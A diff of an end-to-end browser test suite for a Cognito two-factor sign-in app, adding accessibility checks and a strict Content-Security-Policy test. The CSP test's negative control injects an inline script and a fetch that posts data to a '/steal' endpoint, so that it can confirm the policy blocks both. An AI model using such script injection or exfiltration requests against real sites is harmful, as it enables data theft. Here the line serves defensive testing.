@@ -6,7 +6,7 @@ import assert from 'node:assert/strict';
 import { mkdirSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
-import { alertText, axeViolations, launch, openAuthenticatorSetup, openPage as openPageIn, setLanguage, signIn as signInAt, signOut, typeCode, waitForAlert, wrongThenRightCode } from './browser.mjs';
+import { alertText, axeEverywhere, launch, openAuthenticatorSetup, openPage as openPageIn, signIn as signInAt, signOut, typeCode, waitForAlert, wrongThenRightCode } from './browser.mjs';
 import { APP_URL, COGNITO_URL, PASSWORD, POOL_ID, cognito, freshCode, lastDeliveredCode, newUser, setSessionTtl, wrongCode } from './lib.mjs';
 
 const SHOTS = join(dirname(fileURLToPath(import.meta.url)), '..', 'docs', 'screenshots');
@@ -25,18 +25,15 @@ const signIn = (page, email, options) => signInAt(page, APP_URL, email, options)
 
 /** Every screen: 0 axe violations in English and Thai, light and dark; screenshots on request. */
 async function shoot(page, name) {
-  const focused = await page.evaluate(() => document.activeElement?.id);
-  for (const lang of ['en', 'th']) {
-    await setLanguage(page, lang);
-    for (const colorScheme of ['light', 'dark']) {
-      await page.emulateMedia({ colorScheme });
-      assert.deepEqual(await axeViolations(page, `${name} ${lang} ${colorScheme}`), []);
-      if (UPDATE_SCREENSHOTS && colorScheme === 'light') await page.screenshot({ path: join(SHOTS, `${name}-${lang}.png`), fullPage: true });
-    }
-  }
-  await page.emulateMedia({ colorScheme: 'light' });
-  await setLanguage(page, 'en');
-  if (focused) await page.focus(`#${focused}`);
+  const screenshot = UPDATE_SCREENSHOTS
+    ? (lang) => page.screenshot({ path: join(SHOTS, `${name}-${lang}.png`), fullPage: true })
+    : undefined;
+  assert.deepEqual(await axeEverywhere(page, name, { screenshot }), []);
+}
+
+/** A screen state that gets no screenshot of its own (errors, busy states): axe only. */
+async function check(page, name) {
+  assert.deepEqual(await axeEverywhere(page, name), []);
 }
 
 describe('sign in → set up authenticator → sign in with TOTP', () => {
@@ -58,7 +55,10 @@ describe('sign in → set up authenticator → sign in with TOTP', () => {
     await shoot(page, 'home-before');
 
     // 2. Set up the authenticator: read the secret off the page, compute the code.
-    const secret = await openAuthenticatorSetup(page);
+    await page.click('a[href="/setup-2fa"]');
+    await page.getByRole('button', { name: 'Generate QR Code' }).waitFor();
+    await check(page, 'setup before the QR code');
+    const secret = await openAuthenticatorSetup(page, { alreadyThere: true });
     assert.match(secret, /^[A-Z2-7]{16,}$/);
     const link = await page.locator('a.open-in-app').getAttribute('href');
     assert.equal(link, `otpauth://totp/Cognito%202FA:${encodeURIComponent(email)}?secret=${secret}&issuer=Cognito%202FA`);
@@ -73,6 +73,7 @@ describe('sign in → set up authenticator → sign in with TOTP', () => {
     await typeCode(page, wrongCode(secret));
     await waitForAlert(page, 'Incorrect code');
     assert.match(await alertText(page), /check that your phone's clock/i);
+    await check(page, 'verify, wrong code');
     let { code, step } = freshCode(secret);
     await typeCode(page, code);
     await page.getByText('Authenticator setup successful!').waitFor();
@@ -87,6 +88,7 @@ describe('sign in → set up authenticator → sign in with TOTP', () => {
     // Setting up again says TOTP is on instead of failing.
     await page.click('a[href="/setup-2fa"]');
     await page.getByText('Your authenticator app is already set up').waitFor();
+    await check(page, 'already set up');
     await page.click('a[href="/home"]');
     await page.waitForSelector('[data-mfa=totp]');
     await signOut(page);
@@ -106,8 +108,12 @@ describe('sign in → set up authenticator → sign in with TOTP', () => {
     await page.waitForSelector('#code');
     await typeCode(page, code);
     await waitForAlert(page, 'This code was already used');
+    await check(page, 'mfa, reused code');
 
-    // 6. Protected pages send a signed-out visitor to the login page.
+    // 6. Protected pages send a signed-out visitor to the login page; an unknown one says so.
+    await page.goto(`${APP_URL}/no-such-page`);
+    await page.getByText('This page could not be found.').waitFor();
+    await check(page, 'not found');
     await page.goto(`${APP_URL}/home`);
     await page.waitForURL('**/login');
     await page.goto(`${APP_URL}/setup-2fa`);
@@ -162,6 +168,7 @@ describe('sign in → set up authenticator → sign in with TOTP', () => {
     await page.waitForURL('**/home');
     assert.deepEqual(targets.filter((t) => t === 'InitiateAuth'), ['InitiateAuth']);
     assert.deepEqual(targets.filter((t) => t === 'RespondToAuthChallenge'), ['RespondToAuthChallenge']);
+    assert.deepEqual(page.problems, []);
     await page.context().close();
   });
 
@@ -199,21 +206,23 @@ describe('sign in → set up authenticator → sign in with TOTP', () => {
     await page.click('button[type=submit]');
     await page.waitForURL('**/home');
     await waitForAlert(page, "Can't reach the sign-in service");
+    await check(page, 'home, network error');
     await page.getByRole('button', { name: 'Try again' }).click();
     await page.waitForSelector('.email');
     assert.equal(await page.locator('.email').innerText(), email);
+    assert.deepEqual(page.problems, []);
     await page.context().close();
   });
 
   test('dark mode: the page follows prefers-color-scheme', async () => {
-    const context = await browser.newContext({ colorScheme: 'dark', viewport: { width: 1024, height: 768 } });
-    const page = await context.newPage();
+    const page = await openPage({ colorScheme: 'dark' });
     await page.goto(`${APP_URL}/login`);
     await page.waitForSelector('#email');
     const background = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
     assert.equal(background, 'rgb(16, 19, 26)');
     if (UPDATE_SCREENSHOTS) await page.screenshot({ path: join(SHOTS, 'login-dark-en.png'), fullPage: true });
-    await context.close();
+    assert.deepEqual(page.problems, []);
+    await page.context().close();
   });
 
   test('wrong password reads the same as an unknown account; Thai and a 375 px screen work', async () => {
@@ -228,7 +237,7 @@ describe('sign in → set up authenticator → sign in with TOTP', () => {
     await page.waitForFunction(() => document.querySelector('[role=alert]')?.innerText.length > 0);
     const wrongPassword = await alertText(page);
     assert.equal(wrongPassword, 'อีเมลหรือรหัสผ่านไม่ถูกต้อง');
-    assert.deepEqual(await axeViolations(page, 'login error 375px th'), []);
+    await check(page, 'login, wrong password, 375 px');
     if (UPDATE_SCREENSHOTS) await page.screenshot({ path: join(SHOTS, 'login-error-mobile-th.png'), fullPage: true });
     await page.fill('#email', 'nobody-at-all@example.com');
     await page.fill('#password', PASSWORD);
@@ -247,6 +256,43 @@ describe('sign in → set up authenticator → sign in with TOTP', () => {
   });
 });
 
+describe('a strict Content-Security-Policy', () => {
+  test('the page is served with it, nothing relaxes it, and a violation is caught', async () => {
+    const served = await fetch(`${APP_URL}/login`);
+    const header = served.headers.get('content-security-policy');
+    const directives = Object.fromEntries(header.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));
+    assert.doesNotMatch(header, /'unsafe-inline'|'unsafe-eval'|\*/, header);
+    assert.deepEqual(directives['default-src'], ["'none'"]);
+    assert.deepEqual(directives['connect-src'], ["'self'", `${COGNITO_URL}/`], 'only the page itself and Cognito');
+    assert.deepEqual(directives['script-src'].filter((s) => !s.startsWith("'sha256-")), ["'self'", "'wasm-unsafe-eval'"]);
+    assert.ok(directives['script-src'].some((s) => s.startsWith("'sha256-")), 'the loader is allowed by its hash');
+    for (const name of ['form-action', 'base-uri', 'frame-ancestors']) assert.deepEqual(directives[name], ["'none'"], name);
+    assert.equal(served.headers.get('x-frame-options'), 'DENY');
+    assert.equal(served.headers.get('x-content-type-options'), 'nosniff');
+    assert.equal(served.headers.get('referrer-policy'), 'no-referrer');
+    const html = await served.text();
+    assert.ok(html.includes(`content="${header.replace("; frame-ancestors 'none'", '')}"`), 'the page carries the same policy');
+
+    const page = await openPage();
+    await page.goto(`${APP_URL}/login`);
+    await page.waitForSelector('#email');
+    assert.deepEqual(page.problems, [], 'the app itself runs within the policy');
+    // A negative control: what an injected script would try is blocked, and the tests notice.
+    await page.evaluate(() => {
+      const s = document.createElement('script');
+      s.textContent = 'window.injected = true';
+      document.head.append(s);
+      fetch('http://127.0.0.1:9/steal', { method: 'POST', body: 'x' }).catch(() => {});
+    });
+    await page.waitForFunction(() => true);
+    await page.waitForTimeout(300);
+    assert.equal(await page.evaluate(() => window.injected), undefined, 'the inline script did not run');
+    assert.ok(page.problems.some((p) => /CSP violation: script-src/.test(p)), page.problems.join('\n'));
+    assert.ok(page.problems.some((p) => /CSP violation: connect-src/.test(p)), page.problems.join('\n'));
+    await page.context().close();
+  });
+});
+
 describe('the other challenges Cognito can answer a password with', () => {
   test('NEW_PASSWORD_REQUIRED: a temporary password is replaced, mismatches caught first', async () => {
     const email = `temp-${Date.now()}@example.com`;
@@ -260,10 +306,12 @@ describe('the other challenges Cognito can answer a password with', () => {
     await page.fill('#confirm-password', 'Mine-Passw0rd?');
     await page.click('button[type=submit]');
     await page.getByText('The two passwords do not match.').waitFor();
+    await check(page, 'new password, mismatch');
     await page.fill('#new-password', 'short');
     await page.fill('#confirm-password', 'short');
     await page.click('button[type=submit]');
     await waitForAlert(page, 'does not meet the requirements');
+    await check(page, 'new password, refused');
     await page.fill('#new-password', 'Mine-Passw0rd!');
     await page.fill('#confirm-password', 'Mine-Passw0rd!');
     await page.click('button[type=submit]');
@@ -286,6 +334,7 @@ describe('the other challenges Cognito can answer a password with', () => {
     await page.getByRole('button', { name: 'SMS code' }).click();
     await page.waitForSelector('#code');
     assert.equal(await page.locator('.destination').innerText(), '+*******0142');
+    await check(page, 'sms code');
     const sent = await lastDeliveredCode(email);
     assert.equal(sent.medium, 'SMS');
     await typeCode(page, sent.code === '000000' ? '111111' : '000000');
@@ -304,6 +353,7 @@ describe('the other challenges Cognito can answer a password with', () => {
       const page = await openPage();
       await signIn(page, email);
       await page.getByText('Two-factor authentication is required for your account').waitFor();
+      await check(page, 'forced set-up, before the QR code');
       const { secret } = await (async () => {
         await page.getByRole('button', { name: 'Generate QR Code' }).click();
         await page.waitForSelector('figure.qr svg');
@@ -313,6 +363,7 @@ describe('the other challenges Cognito can answer a password with', () => {
       await shoot(page, 'forced-setup');
       await page.getByRole('button', { name: 'Continue to Verification' }).click();
       await page.waitForSelector('#code');
+      await check(page, 'forced set-up, verify');
       await wrongThenRightCode(page, secret, undefined, 'Incorrect code');
       await page.waitForURL('**/home');
       await page.waitForFunction(() => document.querySelector('[data-mfa=totp]')?.innerText.includes('On'));
